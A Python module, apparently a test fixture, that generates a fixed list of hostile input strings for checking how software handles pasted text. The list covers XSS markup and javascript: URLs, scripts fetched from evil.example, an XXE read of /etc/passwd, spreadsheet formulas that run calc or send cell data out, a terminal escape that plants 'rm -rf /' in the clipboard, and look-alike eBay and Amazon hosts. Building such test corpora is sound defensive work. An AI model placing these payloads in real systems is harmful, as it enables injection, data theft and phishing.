"""Pasted texts that want to be more than text: markup, scripts, formulas, orders to a terminal.

`payloads()` gives over 300 different ones. The collections come from what OWASP's sheets on XSS
filter evasion and CSV injection list, from Unicode's reports on confusables (39) and writing
direction (9), and from the escape sequences of ECMA-48.
"""

from __future__ import annotations

MARK = "boeseabsicht"
"""Every script in a payload would call a function of this name."""

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""All controls of writing direction."""

_HANDLERS = (
    "onload onerror onclick onmouseover onfocus onblur onanimationend onanimationstart ontoggle "
    "onpointerrawupdate onbeforeinput onbegin onend onrepeat onwheel oncopy onpaste oncut ondrag "
    "onhashchange onmessage onpageshow onpopstate onresize onscroll onstorage onunload"
).split()
_ELEMENTS = (
    "<img src=x {h}={m}()>",
    "<svg {h}={m}()>",
    "<body {h}={m}()>",
    '<details open {h}="{m}()">',
    "<input autofocus {h}='{m}()'>",
)
_MARKUP = (
    "<script>{m}()</script>",
    "</script><script>{m}()</script>",
    "<scr<script>ipt>{m}()</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x00>{m}()</script>",
    "<script/src=data:,{m}()></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "</textarea><script>{m}()</script>",
    "</template><img src=x onerror={m}()>",
    "</title><script>{m}()</script>",
    "</style><script>{m}()</script>",
    "--><script>{m}()</script>",
    "]]><script>{m}()</script>",
    "<!--<img src='--><img src=x onerror={m}()>'>",
    "<iframe src=javascript:{m}()></iframe>",
    "<iframe srcdoc='<script>parent.{m}()</script>'></iframe>",
    "<object data=javascript:{m}()></object>",
    "<embed src=javascript:{m}()>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import'https://evil.example/x.css';</style>",
    "<style>*{{background:url(https://evil.example/)}}</style>",
    "<form action=https://evil.example/><button>Anmelden</button></form>",
    "<form><button formaction=javascript:{m}()>x",
    "<math><mtext></mtext><mglyph><style></math><img src onerror={m}()>",
    "<svg><script>{m}()</script></svg>",
    "<svg><animate onbegin={m}() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={m}()>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={m}()>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:{m}()></foreignObject></svg>",
    "<svg><a xlink:href=javascript:{m}()><text>x</text></a></svg>",
    "<xss id=x tabindex=1 onfocus={m}()></xss>",
    "<video><source onerror={m}()></video>",
    "<audio src=x onerror={m}()>",
    "<table background=javascript:{m}()>",
    "<a href=javascript:{m}()>Anmelden</a>",
    "<a href='java\nscript:{m}()'>Anmelden</a>",
    "<a href='&#106;avascript:{m}()'>Anmelden</a>",
    "<dialog open onclose={m}()>",
    "<noscript><p title='</noscript><img src=x onerror={m}()>'>",
    "<p id=meldung data-teil=antwort>doppelt</p>",
    "<template id=vorlage-antwort></template>",
    "<input name=attributes><form id=x>",
    "<img name=querySelector><a id=defaultView>",
    "&lt;script&gt;{m}()&lt;/script&gt;",
    "&amp;lt;img src=x onerror={m}()&amp;gt;",
    "%3Cscript%3E{m}()%3C%2Fscript%3E",
    "\\u003cscript\\u003e{m}()\\u003c/script\\u003e",
    "+ADw-script+AD4-{m}()+ADw-/script+AD4-",
    "\uff1cscript\uff1e{m}()\uff1c/script\uff1e",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;'>]><l>&b;</l>",
    "<?php {m}(); ?>",
    "<% {m}() %>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{m}()", "JaVaScRiPt:{m}()", " javascript:{m}()", "java\tscript:{m}()",
    "javascript\n:{m}()", "\x01javascript:{m}()", "vbscript:{m}()", "livescript:{m}()",
    "data:text/html,<script>{m}()</script>", "data:text/html;base64,PHNjcmlwdD5hKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload={m}()>", "blob:https://evil.example/x",
    "filesystem:https://evil.example/x", "view-source:javascript:{m}()",
    "jar:https://evil.example!/x", "feed:javascript:{m}()", "file:///etc/passwd",
    "//evil.example/x.js", "https:evil.example", "http://[::1]:80/", "\\\\evil.example\\x",
)  # fmt: skip
_TEMPLATES = (
    "{{{{7*7}}}}", "{{{{constructor.constructor('{m}()')()}}}}", "${{7*7}}", "${{{m}()}}",
    "#{{7*7}}", "<%= 7*7 %>", "{{% raw %}}", "{{{{ config }}}}", "{{{{''.__class__}}}}",
    "[[titel]]", "[[meldung]]", "[[constructor]]", "[[__proto__]]", "`{m}()`", "$1 $& $` $'",
    "%s%s%n", "{{0.__class__}}", "{{knowledge}}", "@@{m}", "<!-- nur:netz -->x<!-- /nur -->",
    "\\1\\g<0>", "**fett** `code` [x](javascript:{m}())", "![x](https://evil.example/x.png)",
    "__proto__", "constructor", "toString", "hasOwnProperty", "antwort-kein-fehler-erkannt",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mrot\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;Titel\x07", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b[8mversteckt\x1b[28m", "\x1bP+q544e\x1b\\", "\x1b[6n",
    "\x9b31m", "\x9d0;Titel\x9c", "\x08\x08\x08", "sauber\rgefälscht", "\x07", "\x0e\x0f", "\x7f",
    "\x1bc", "\x1b#8", "\x1b(0", "\x1b[?1049h", "\x1b_G\x1b\\", "\x90q\x9c", "\x84\x85\x88",
)  # fmt: skip
_HIDDEN = (
    "\x00", "a\x00b", "\ufeff", "\u200b\u200c\u200d", "e\u200bb\u200ba\u200by", "\u2060", "\u00ad",
    "\u180e", "\u034f", "\u115f\u1160", "\u3164", "\ufff9\ufffa\ufffb", "\ufffe", "\uffff",
    "\U000e0041\U000e0042", "Z\u0300\u0301\u0302\u0303\u0304" * 20, "\u2028", "\u2029", "\u0085",
    "\ud800", "\udfff", "x\ud83dy", "\udc00\ud800", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\u1e9e\u0130\u0131\u017f\u212a", "\ufdfa" * 20, "\u0e49" * 60, "𝕖𝕓𝕒𝕪", "ｅｂａｙ",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)",
    "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Anmelden\")", "=WEBSERVICE(\"https://evil.example\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\"=1+1", "';=1+1", "=1+1\";=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "%0A=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc", "=-1", "\ufeff=1+1", "\x00=1+1", "\u200b=1+1",
)  # fmt: skip
_HOSTS = (
    "https://signin.еbay.de/", "https://api.еbay.com/identity/v1/oauth2/token",
    "https://аmazon.de/", "https://api.amazon.com.evil.example/auth/o2/token",
    "https://sellercentral.amazon.de@evil.example/", "https://xn--bay-qdd.com/",
    "https://amaz0n.de/", "https://arnazon.de/", "https://ebay.de.evil.example/anmelden",
    "https://evil.example/ebay.de", "https://evil.example\\@ebay.de", "https://ebay.de%00.evil.example",
    "https://ebay.de\u3002evil.example/", "https://ebay.de\uff0fevil.example/", "http://0x7f.1/",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All payloads, each once, in an order that does not change."""
    found = [element.format(h=handler, m=MARK) for handler in _HANDLERS for element in _ELEMENTS]
    found += [text.format(m=MARK) for text in (*_MARKUP, *_SCHEMES, *_TEMPLATES)]
    found += [*_TERMINAL, *_HIDDEN, *_FORMULAS, *_HOSTS]
    found += [f"ab{sign}cd" for sign in BIDI]
    found += [f"{sign}moc.yabe//:sptth\u202c" for sign in BIDI]
    return tuple(dict.fromkeys(found))
